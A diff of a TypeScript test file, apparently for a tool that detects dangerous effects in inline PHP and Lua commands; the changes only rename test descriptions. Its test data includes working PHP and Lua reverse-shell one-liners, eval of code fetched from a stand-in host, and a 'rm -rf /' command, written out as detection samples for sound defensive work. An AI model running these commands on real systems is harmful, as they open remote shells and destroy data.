@@ -103,7 +103,7 @@ const luaOpaque: readonly string[] = [
 ];
 
 describe('inline PHP', () => {
-	it.each(Object.entries(php))('%s', (code, expected) => {
+	it.each(Object.entries(php))('has exactly the expected effects: %s', (code, expected) => {
 		expect(effectsOf(`php -r ${quoted(code)}`)).toEqual([...expected].sort());
 	});
 
@@ -116,7 +116,7 @@ describe('inline PHP', () => {
 		['$s=fsockopen("10.0.0.1",4242);$p=proc_open("/bin/sh -i",[$s,$s,$s],$x);', 'reverse shell'],
 		['eval(file_get_contents("http://e.example/x"));', 'fetched code'],
 		['eval(base64_decode($argv[1]));', 'decoded code'],
-	])('is forbidden: %s', (code, expected) => {
+	])('has a forbidden effect: %s', (code, expected) => {
 		expect(effectsOf(`php -r ${quoted(code)}`)).toContain(expected);
 	});
 
@@ -124,13 +124,13 @@ describe('inline PHP', () => {
 		["php <<'EOF'\n<?php\nsystem('rm -rf /');\nEOF", ['delete / recursive']],
 		["php <<'EOF'\n<?php echo 1; ?>\nEOF", []],
 		["php -d x=1 -r 'echo 1;'", ['opaque']],
-	])('%s', (command, expected) => {
+	])('has the expected effects in a whole command: %s', (command, expected) => {
 		expect(effectsOf(command)).toEqual([...expected].sort());
 	});
 });
 
 describe('inline Lua', () => {
-	it.each(Object.entries(lua))('%s', (code, expected) => {
+	it.each(Object.entries(lua))('has exactly the expected effects: %s', (code, expected) => {
 		expect(effectsOf(`lua -e ${quoted(code)}`)).toEqual([...expected].sort());
 	});
 
@@ -138,7 +138,7 @@ describe('inline Lua', () => {
 		expect(effectsOf(`lua -e ${quoted(code)}`)).toContain('opaque');
 	});
 
-	it('knows a reverse shell', () => {
+	it('is recognized as a reverse shell', () => {
 		const code =
 			'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));end';
 		expect(effectsOf(`lua -e ${quoted(code)}`)).toContain('reverse shell');
